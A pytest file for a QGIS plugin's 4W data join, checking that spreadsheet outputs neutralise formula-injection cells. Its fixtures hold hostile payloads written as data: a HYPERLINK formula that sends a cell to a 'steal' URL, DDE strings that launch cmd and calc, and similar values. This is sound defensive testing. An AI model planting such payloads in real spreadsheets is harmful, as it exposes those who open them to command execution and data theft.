"""Formula injection: a partner's cell must never run when the outputs are opened.

Cells starting with =, +, -, @ or a tab in the organisation, activity and location columns go
through coordmap:join_4w to the rows output as CSV and as XLSX, the QA report and the crosswalk
to review; every text cell comes out inert (a leading apostrophe), numbers stay numbers, and the
QA report says how many cells were neutralised.
"""
import csv

import pytest
from openpyxl import load_workbook

from coordmap.tests.helpers import data_rows

pytestmark = pytest.mark.qgis

HOSTILE = ['=HYPERLINK("http://example.com/steal?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
           "\tcmd /c calc"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NEUTRALISED_NOTE = "cells neutralised in spreadsheet outputs"


@pytest.fixture
def hostile_4w(tmp_path):
    """Five rows, each hostile text in Organisation, Activity and Location; valid P-codes of
    the sample country and a plain count (7) so every row is used. A sixth row locates itself
    only by a hostile district name, so the crosswalk to review lists it."""
    path = tmp_path / "hostile_4w.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Organisation", "Cluster", "Activity", "Location", "Admin2 Pcode",
                         "Admin2 Name", "Month", "Targeted"])
        for text, pcode in zip(HOSTILE, ["XY0101", "XY0102", "XY0103", "XY0104", "XY0105"]):
            writer.writerow([text, "Health", text, text, pcode, None, "2025-01", 7])
        writer.writerow(["ACF", "Health", "Vaccination", None, None, "=cmd|' /C calc'!A0",
                         "2025-01", 7])
    return path


def run_join(run_algorithm, output_dir, table, sample_dir, rows_name):
    return run_algorithm("coordmap:join_4w", {
        "INPUT": str(table), "ADMIN": str(sample_dir / "xy_adm2.geojson"),
        "OUTPUT": str(output_dir / f"presence_{rows_name}.gpkg"),
        "OUTPUT_ROWS": str(output_dir / rows_name),
        "OUTPUT_REPORT": str(output_dir / f"qa_{rows_name}.xlsx"),
        "OUTPUT_CROSSWALK": str(output_dir / f"crosswalk_{rows_name}.csv"),
    })


def assert_inert(value, where):
    if isinstance(value, str):
        assert not value.startswith(FORMULA_STARTS), (where, value)


def test_rows_as_xlsx_have_no_formula_and_numbers_stay_numbers(run_algorithm, output_dir,
                                                                 hostile_4w, sample_dir):
    result = run_join(run_algorithm, output_dir, hostile_4w, sample_dir, "rows.xlsx")
    path = result["OUTPUT_ROWS"].split("|")[0]
    workbook = load_workbook(path)  # not data_only: a formula would come back as a formula
    sheet = workbook.worksheets[0]
    header = [cell.value for cell in sheet[1]]
    assert sheet.cell(row=2, column=header.index("status") + 1).value == "#meta+status", \
        "the HXL row is under the header"
    assert sheet.cell(row=3, column=header.index("status") + 1).value == "notice"
    body = list(sheet.iter_rows(min_row=4))
    assert len(body) == 6, "every input row is a row of the output"
    for line in body:
        for cell in line:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            assert_inert(cell.value, cell.coordinate)
    texts = {cell.value for line in body for cell in line if isinstance(cell.value, str)}
    for hostile in HOSTILE:  # kept, made inert, not dropped
        assert "'" + hostile in texts, hostile
    targeted = header.index("targeted")
    assert [line[targeted].value for line in body] == [7] * 6
    assert all(line[targeted].data_type == "n" for line in body)
    assert_report_counts_neutralised(result["OUTPUT_REPORT"], minimum=len(HOSTILE) * 4)


def test_rows_as_csv_and_crosswalk_start_with_no_formula(run_algorithm, output_dir, hostile_4w,
                                                         sample_dir):
    result = run_join(run_algorithm, output_dir, hostile_4w, sample_dir, "rows.csv")
    path = result["OUTPUT_ROWS"].split("|")[0]
    with open(path, encoding="utf-8-sig", newline="") as handle:
        lines = list(csv.reader(handle))
    assert len(lines) == 9, "a header, the HXL row, the notice and every input row"
    assert lines[1][lines[0].index("status")] == "#meta+status"
    assert lines[2][lines[0].index("status")] == "notice"
    for number, line in enumerate(lines, 1):
        for cell in line:
            assert_inert(cell, f"line {number}")
    organisation = lines[0].index("organisation")
    assert [line[organisation] for line in lines[3:8]] == ["'" + text.strip()
                                                           if text.strip()[0] in "=+-@"
                                                           else text.strip()
                                                           for text in HOSTILE]
    with open(result["OUTPUT_CROSSWALK"], encoding="utf-8", newline="") as handle:
        crosswalk = [line for line in csv.reader(handle) if line and not line[0].startswith("#")]
    # the name cell is read as a list of places ('|' and '/' separate them): each part is listed
    assert "'=cmd" in [line[0] for line in crosswalk[1:]]
    for line in crosswalk:
        for cell in line:
            assert_inert(cell, "crosswalk")
    assert_report_counts_neutralised(result["OUTPUT_REPORT"], minimum=len(HOSTILE) * 4)


def test_geopackage_rows_keep_the_text_as_given(run_algorithm, output_dir, hostile_4w,
                                                sample_dir):
    """Only spreadsheet outputs are changed: a GeoPackage keeps the partner's text exactly."""
    result = run_join(run_algorithm, output_dir, hostile_4w, sample_dir, "rows.gpkg")
    activities = [row["orig_Activity"] for row in data_rows(result["OUTPUT_ROWS"])][:5]
    assert activities == HOSTILE
    report = load_workbook(result["OUTPUT_REPORT"])["Summary"]
    assert not any(NEUTRALISED_NOTE in str(line[0].value) for line in report.iter_rows())


def assert_report_counts_neutralised(report_path, minimum):
    workbook = load_workbook(report_path)
    for sheet in workbook.worksheets:
        for line in sheet.iter_rows():
            for cell in line:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)
                assert_inert(cell.value, (sheet.title, cell.coordinate))
    counts = {line[0].value: line[1].value for line in workbook["Summary"].iter_rows(min_row=3)}
    found = [value for key, value in counts.items() if NEUTRALISED_NOTE in str(key)]
    assert found and int(found[0]) >= minimum, counts


def test_overlaps_table_as_csv_starts_with_no_formula(run_algorithm, output_dir, tmp_path,
                                                      sample_dir):
    """gaps_overlaps reads the partners' text back from the join's GeoPackage (kept as given)
    and must neutralise it again when its tables go to CSV."""
    from qgis.core import QgsApplication

    if QgsApplication.processingRegistry().algorithmById("coordmap:gaps_overlaps") is None:
        pytest.skip("coordmap:gaps_overlaps is not registered")
    table = tmp_path / "overlapping_4w.csv"
    with open(table, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Organisation", "Cluster", "Activity", "Admin2 Pcode", "Month"])
        for organisation in ("@SUM(A1)", "+1+1"):  # two partners, same activity, unit, month
            writer.writerow([organisation, "Health", "=cmd|' /C calc'!A0", "XY0101", "2025-01"])
    join = run_join(run_algorithm, output_dir, table, sample_dir, "rows.gpkg")
    result = run_algorithm("coordmap:gaps_overlaps", {
        "PRESENCE": join["OUTPUT"], "ROWS": join["OUTPUT_ROWS"], "PROTECT_SENSITIVE": False,
        "OUTPUT_GAPS": str(output_dir / "gaps.gpkg"),
        "OUTPUT_OVERLAPS": str(output_dir / "overlaps.csv"),
        "OUTPUT_OVERLAP_UNITS": str(output_dir / "overlap_units.gpkg"),
        "OUTPUT_CHANGES": str(output_dir / "changes.csv")})
    with open(result["OUTPUT_OVERLAPS"].split("|")[0], encoding="utf-8-sig", newline="") as handle:
        lines = list(csv.reader(handle))
    assert len(lines) == 3, lines  # the header, the HXL row and the one overlap
    overlap = dict(zip(lines[0], lines[2]))
    assert overlap["activity"] == "'=cmd|' /C calc'!A0"
    assert overlap["partner_list"].startswith("'")
    for cell in lines[2]:
        assert_inert(cell, "overlaps")
